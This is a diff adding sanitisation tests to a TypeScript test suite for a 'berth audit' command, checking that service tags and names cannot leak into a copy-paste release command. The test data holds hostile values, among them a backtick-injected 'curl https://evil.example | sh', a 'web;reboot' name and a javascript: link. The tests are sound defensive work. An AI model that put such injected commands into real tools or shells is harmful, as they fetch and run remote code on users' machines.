@@ -199,6 +199,24 @@ describe("berth audit", () => {
     }
   });
 
+  for (const [title, name, tag] of [
+    ["a service's tag", "web", "x`; curl https://evil.example | sh #"],
+    ["a service's name", "web;reboot", "web"],
+    ["a service's name that is a link", "[click](javascript:x)", "web"],
+  ] as const)
+    it(`puts nothing of ${title} into a command that somebody will copy`, async () => {
+      const aws = account([month], { [name]: 25 });
+      aws.others = aws.others.map((one) => ({ ...one, tags: [{ key: "berth:service", value: tag }] }));
+      for (const argv of [[], ["--markdown"], ["--format", "html"]]) {
+        const { stdout } = await audit(aws, ...argv);
+        const [command = ""] = /berth release mark [^\n]*--shield/.exec(stdout) ?? [];
+        assert.match(
+          command,
+          /^berth release mark --cluster main --service (web|<name>|&#60;name&#62;) --as [a-z0-9-]+ --shield$/,
+        );
+      }
+    });
+
   it("writes a page with a timeline, whatever names there are", async () => {
     const aws = account([month], { "web<script>": 25, worker: 400 });
     const shop = aws.repository("shop");
